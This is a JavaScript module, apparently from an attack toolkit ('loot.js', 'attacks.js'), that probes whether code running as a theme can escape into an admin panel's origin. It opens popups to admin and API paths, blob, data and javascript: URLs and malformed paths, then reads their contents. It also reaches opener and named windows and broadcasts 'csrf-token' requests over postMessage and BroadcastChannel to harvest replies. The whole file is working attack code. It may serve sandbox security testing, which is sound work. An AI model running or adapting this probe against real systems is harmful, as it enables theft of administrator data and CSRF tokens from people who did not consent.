import { readWindow } from './frames.js';
import { afterMs, grabAll, grabInGroups, patience } from './loot.js';

const SETTLE_MS = 1500 * patience;
const STEP_MS = 30;

/** Group 6: windows of the panel, and of responses without a CSP or with a weaker one. */
export function openWindows({ panelOrigin }) {
  const html = '<title>written</title><p>hello</p>';
  const targets = [
    ...['/admin', '/admin/', '/admin/nodes', '/admin/index.html', '/admin/assets/none.js', '/admin/..'],
    ...['/api/me', '/api/nodes', '/api/nothing', '/api/settings', '/api/openapi.json', '/api/health'],
    ...[
      '/install.sh',
      '/agent/sparc',
      '/attacks.js',
      '/theme.json',
      '/%ff',
      '/a%00b',
      '//x',
      `/${'x'.repeat(20_000)}`,
    ],
  ].map((path) => panelOrigin + path);
  return grabInGroups([
    ...targets.map((target) => [`window of ${target.slice(0, 60)}`, () => readPopup(target)]),
    ['window of a blob', () => readPopup(URL.createObjectURL(new Blob([html], { type: 'text/html' })))],
    ['window of data', () => readPopup(`data:text/html,${html}`)],
    ['window of a script', () => readPopup('javascript:"<p>hello</p>"')],
    ['blank window', async () => readWindow(window.open('about:blank'))],
    ['window that moves on', () => readMoved(`${panelOrigin}/admin`)],
  ]);
}

async function readPopup(target) {
  const popup = window.open(target, '_blank');
  await settle(popup);
  const got = await readWindow(popup);
  popup?.close();
  return got;
}

/** Waits until the window has loaded or is inaccessible. */
async function settle(popup) {
  for (let waited = 0; waited < SETTLE_MS && isOnItsWay(popup); waited += STEP_MS) await afterMs(STEP_MS);
}

function isOnItsWay(popup) {
  try {
    return (
      popup?.closed === false &&
      (popup.location.href === 'about:blank' || popup.document.readyState !== 'complete')
    );
  } catch {
    return false;
  }
}

/** A window of the theme that navigates to the panel keeps its name and opener unless they are severed. */
async function readMoved(target) {
  const popup = window.open('/', 'mine', 'popup');
  await settle(popup);
  if (popup === null) return 'no window';
  popup.location.href = target;
  for (let waited = 0; waited < SETTLE_MS && !popup.closed; waited += STEP_MS) await afterMs(STEP_MS);
  const got = [await readWindow(popup), await readWindow(window.open('', 'mine'))];
  popup?.close();
  return got.join(' | ');
}

/** Existing windows: the opener and named windows. */
export async function reachWindows() {
  const names = ['panel', 'admin', 'muster', 'status', 'mine', '_parent', '_top', '_unfencedTop'];
  const others = [
    ['opener', () => readWindow(window.opener)],
    ['parent', () => readWindow(window.parent === window ? null : window.parent)],
    ['frames', async () => `${window.length} frames`],
    ...names.map((name) => [`window ${name}`, () => readNamed(name)]),
    ['messages', () => listen()],
  ];
  return grabAll(others);
}

async function readNamed(name) {
  const found = window.open('', name);
  const got = found === window ? 'this very window' : await readWindow(found);
  if (found !== window) found?.close();
  return got;
}

/** Posts messages to possible listeners and collects answers. */
function listen() {
  return new Promise((resolve) => {
    const heard = [];
    addEventListener('message', ({ data }) => heard.push(JSON.stringify(data)));
    const channels = ['muster', 'panel', 'admin', 'tanstack-query', 'auth'].map(
      (name) => new BroadcastChannel(name),
    );
    for (const channel of channels) {
      channel.onmessage = ({ data }) => heard.push(JSON.stringify(data));
      channel.postMessage({ type: 'csrf-token' });
    }
    window.opener?.postMessage({ type: 'csrf-token' }, '*');
    setTimeout(() => resolve(`heard ${heard.join(' ')}`), 500);
  });
}
